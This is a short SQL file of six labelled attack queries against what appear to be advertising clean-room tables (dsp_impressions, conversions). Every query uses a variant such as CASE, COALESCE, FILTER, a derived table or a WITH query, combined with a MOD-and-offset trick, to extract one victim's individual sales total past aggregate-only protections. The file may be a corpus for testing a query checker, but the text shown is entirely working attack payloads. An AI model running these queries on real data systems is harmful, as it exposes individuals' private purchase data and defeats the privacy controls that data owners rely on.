-- # CASE around an aggregate of the victim's own rows
-- secret sales
-- learns what the victim spent
SELECT MOD(CAST(SUM((SELECT CASE WHEN MAX(c.total_product_sales) > 60000 THEN 3 WHEN MAX(c.total_product_sales) > 40000 THEN 2 ELSE 1000000 END
FROM conversions c WHERE c.user_id = i.user_id)) AS BIGINT), 1000000) AS n FROM dsp_impressions i
-- # COALESCE around an aggregate of the victim's own rows
-- secret sales
-- learns what the victim spent
SELECT MOD(CAST(SUM((SELECT COALESCE(MAX(c.total_product_sales), 1000000) FROM conversions c
WHERE c.user_id = i.user_id AND c.conversion_event_name = 'solo purchase')) AS BIGINT), 1000000) AS n FROM dsp_impressions i
-- # CASE inside of the aggregate of a subquery
-- secret sales
-- learns what the victim spent
SELECT MOD(CAST(SUM((SELECT SUM(CASE WHEN c.conversion_event_name = 'solo purchase' THEN c.total_product_sales ELSE 1000000 END)
FROM conversions c WHERE c.user_id = i.user_id)) AS BIGINT), 1000000) AS n FROM dsp_impressions i
-- # CASE in a table that a subquery derives
-- secret sales
-- learns what the victim spent
SELECT MOD(CAST(SUM((SELECT SUM(t.x) FROM (SELECT c.user_id, CASE WHEN c.conversion_event_name = 'solo purchase'
THEN c.total_product_sales ELSE 1000000 END AS x FROM conversions c) t WHERE t.user_id = i.user_id)) AS BIGINT), 1000000) AS n
FROM dsp_impressions i
-- # CASE in a WITH query that a subquery reads
-- secret sales
-- learns what the victim spent
WITH w AS (SELECT user_id, CASE WHEN conversion_event_name = 'solo purchase' THEN total_product_sales ELSE 1000000 END AS x FROM conversions)
SELECT MOD(CAST(SUM((SELECT SUM(w.x) FROM w WHERE w.user_id = i.user_id)) AS BIGINT), 1000000) AS n FROM dsp_impressions i
-- # FILTER in a subquery
-- secret sales
-- learns what the victim spent
SELECT MOD(CAST(SUM((SELECT COUNT(*) * 1000000 + SUM(c.total_product_sales) FILTER (WHERE c.conversion_event_name = 'solo purchase')
FROM conversions c WHERE c.user_id = i.user_id)) AS BIGINT), 1000000) AS n FROM dsp_impressions i
